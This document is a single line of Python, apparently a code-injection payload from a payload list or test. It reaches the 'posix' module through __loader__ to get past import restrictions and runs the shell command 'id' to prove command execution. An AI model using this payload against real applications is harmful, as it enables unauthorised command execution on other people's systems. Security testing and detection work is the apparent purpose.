__loader__.load_module("posix").system("id")
